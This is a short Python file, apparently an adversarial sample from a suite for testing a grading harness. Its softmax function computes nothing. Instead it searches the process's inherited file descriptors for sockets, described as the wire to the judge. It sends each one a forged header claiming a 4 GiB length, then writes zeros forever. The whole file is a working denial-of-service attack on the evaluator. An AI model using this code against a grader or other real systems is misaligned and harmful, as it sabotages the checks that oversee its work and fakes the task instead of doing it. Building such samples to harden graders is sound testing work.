# /// attack
# does = "claims a header of 4 GiB, and sends zeros for ever"
# own = { softmax = ["protocol"] }
# ///
"""The same with the other length, and a stream behind it that is never read."""

import contextlib
import os
import stat
import struct


def ends():
    """The sockets among what this process has inherited: the wire to the judge is one of them."""
    found = []
    for number in range(3, 400):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
    return found


def send(content):
    for number in ends():
        with contextlib.suppress(OSError):
            os.write(number, content)


def softmax(logits):
    send(struct.pack("<IQB", (1 << 32) - 1, 0, 0))
    while True:
        send(bytes(1 << 16))
